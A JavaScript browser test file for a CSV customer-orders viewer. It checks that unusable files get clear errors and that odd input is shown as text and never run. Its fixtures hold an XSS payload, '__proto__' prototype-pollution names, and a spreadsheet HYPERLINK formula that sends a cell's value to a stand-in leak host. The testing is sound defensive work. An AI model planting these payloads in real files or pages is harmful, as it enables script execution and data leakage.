// Files that are not what they should be: each is told or listed, nothing in them is run, and the page goes on.
import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { mkdtemp, rm, unlink } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { it } from "node:test";
import { part } from "../browser/browser.mjs";
import { largeOrders } from "../browser/data.mjs";
import * as person from "./person.mjs";
import { anyWay } from "./ways.mjs";

/** A real picture of one pixel. */
const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);
const MARKUP = "<img src=x onerror=globalThis.__ran=1>";
const FORMULA = '=HYPERLINK("http://leak.example/?"&A1,"look")';

/** @param {string | Buffer} content @param {string} [name] */
const file = (content, name = "orders.csv") => ({ name, mimeType: "text/csv", buffer: Buffer.from(content) });
/** @param {string} text */
const quoted = (text) => `"${text.replaceAll('"', '""')}"`;

/** Files of which nothing can be used, and the error that says so. */
const UNUSABLE = [
  { what: "an empty file", code: "file_empty", given: file("") },
  { what: "a picture called .csv", code: "not_text", given: file(PNG) },
  { what: "only a header", code: "header_only", given: file("order_id,customer_id,order_date,amount\n") },
  {
    what: "dates that cannot be read",
    code: "no_usable_rows",
    given: file("customer_id,order_date,amount\nana,soon,1\nben,later,2\n"),
  },
];

/** Files that are read although something in them is odd. */
const ODD = [
  {
    what: "a column named __proto__",
    id: "ana",
    given: file("__proto__,customer_id,order_date,amount,constructor\nx,ana,2024-01-05,120.50,y\n"),
  },
  {
    what: "a customer named __proto__",
    id: "__proto__",
    given: file("customer_id,order_date,amount\n__proto__,2024-01-05,120.50\n"),
  },
  {
    what: "markup for a customer",
    id: MARKUP,
    given: file(
      `customer_id,order_date,amount\n${MARKUP},2024-01-05,-120.50\n${MARKUP},2024-01-06,220.50\n`,
      `${MARKUP}.csv`,
    ),
  },
  {
    what: "a formula for a customer",
    id: FORMULA,
    given: file(`customer_id,order_date,amount\n${quoted(FORMULA)},2024-01-05,120.50\nben,2024-01-06,-5\n`),
  },
];

anyWay("bad input", (visit) => {
  /** @param {import("playwright-core").Page} page */
  async function assertNothingRan(page) {
    assert.equal(await page.evaluate(() => Reflect.has(globalThis, "__ran")), false, "markup in the data was run");
    assert.equal(await page.locator("img, iframe, a[href^=http]").count(), 0, "markup in the data became a part");
    assert.equal(await page.evaluate(() => Reflect.has({}, "customer_id")), false, "every object was changed");
  }

  for (const { what, code, given } of UNUSABLE) {
    it(`tells of ${what}, and opens the next file`, async () => {
      const { page, assertClean, close } = await visit();
      await person.openFiles(page, given);
      assert.equal(await person.errorCode(page), code);
      assert.ok((await part(page, "error").innerText()).includes(given.name), "the file is named");
      await assertNothingRan(page);

      await person.openFiles(page, person.GOOD);
      assert.equal(await person.errorCode(page), null);
      const good = await person.figures(page);
      assert.deepEqual([good.customers, good.orders], ["2", "3"]);

      await person.openFiles(page, given);
      assert.equal(await person.errorCode(page), code);
      assert.deepEqual(await person.figures(page), good, "what was open is still there");
      assert.equal((await person.save(page, "csv")).bytes.toString().split("\r\n").filter(Boolean).length, 3);
      assertClean();
      await close();
    });
  }

  it("shows markup for column names in the preview as the text it is", async () => {
    const { page, assertClean, close } = await visit();
    const names = [MARKUP, FORMULA.replaceAll(/[",]/g, ""), "__proto__", "constructor"];
    const given = file(`${names.join(",")}\na,2024-01-05,7,${MARKUP}\nb,2024-02-05,8,x\n`, `${MARKUP}.csv`);
    await person.previewFiles(page, given);
    assert.deepEqual(
      await part(page, "sketch")
        .locator("select")
        .evaluateAll((all) => all.map((one) => one.getAttribute("data-column"))),
      names,
    );
    await person.columnSelect(page, "__proto__").selectOption("amount");
    await person.columnSelect(page, "constructor").selectOption("customer");
    await assertNothingRan(page);
    await person.readPreviewed(page);
    assert.equal((await person.figures(page)).customers, "2");
    await assertNothingRan(page);
    assertClean();
    await close();
  });

  for (const { what, id, given } of ODD) {
    it(`shows ${what} as the text it is`, async () => {
      const { page, assertClean, close } = await visit();
      await person.openFiles(page, given);
      assert.equal(await person.errorCode(page), null);
      await person.go(page, "customers");
      const shown = page.locator("[data-customer]");
      const ids = await shown.evaluateAll((all) => all.map((one) => one.getAttribute("data-customer")));
      assert.ok(ids.includes(id), ids.join(", "));
      await shown.nth(ids.indexOf(id)).click();
      await part(page, "customer").waitFor();
      assert.ok((await part(page, "customer").locator("h2").innerText()).includes(id.slice(0, 30)));
      for (const summary of await page.locator("summary").all()) await summary.click();
      await part(page, "find").fill(id);
      await page.locator("[data-customer]").first().waitFor();
      await part(page, "language").click();
      await assertNothingRan(page);
      await person.openFiles(page, person.GOOD);
      assert.equal((await person.figures(page)).customers, "2");
      assertClean();
      await close();
    });
  }

  it("takes the sting out of formulas in the export, and leaves numbers alone", async () => {
    const { page, assertClean, close } = await visit();
    await person.openFiles(page, ODD.at(-1)?.given ?? []);
    const lines = (await person.save(page, "csv")).bytes.toString().split("\r\n");
    const formula = lines.find((line) => line.includes("HYPERLINK")) ?? "";
    assert.ok(formula.startsWith(quoted(`'${FORMULA}`)), formula);
    assert.match(
      lines.find((line) => line.startsWith("ben,")) ?? "",
      /,-5(\.0*)?,/,
      "a negative amount stays a number",
    );
    assertClean();
    await close();
  });

  it("tells that a file was deleted while it was read, and keeps what was open", async () => {
    const { page, close } = await visit();
    const folder = await mkdtemp(join(tmpdir(), "clientele-deleted-"));
    const victim = await largeOrders(folder);
    await person.openFiles(page, person.GOOD);
    await part(page, "file-input").setInputFiles(victim);
    await unlink(victim);
    await part(page, "error").waitFor();
    assert.equal(await person.errorCode(page), "file_unreadable");
    assert.equal((await person.figures(page)).customers, "2", "what was open is still there");
    await person.openFiles(page, person.GOOD);
    assert.equal(await person.errorCode(page), null, "and the next file opens");
    await close();
    await rm(folder, { recursive: true });
  });

  it("lists what is odd in single rows", async () => {
    const { page, assertClean, close } = await visit();
    const rows = [
      "customer_id,order_date,amount",
      "ana,2024-01-05,120.50",
      ",2024-01-05,1",
      "ben,someday,2",
      "cleo,2024-01-06,much",
    ];
    await person.openFiles(page, file(rows.join("\n")));
    assert.equal(await person.errorCode(page), null);
    const listed = await person.issues(page);
    for (const code of ["missing_customer", "unreadable_date", "unreadable_amount"]) {
      assert.ok(listed.includes(code), `${code} is not among ${listed.join(", ")}`);
    }
    const { rows: read, aside } = await person.figures(page);
    assert.deepEqual({ read, aside }, { read: "4", aside: "3" });
    assertClean();
    await close();
  });
});
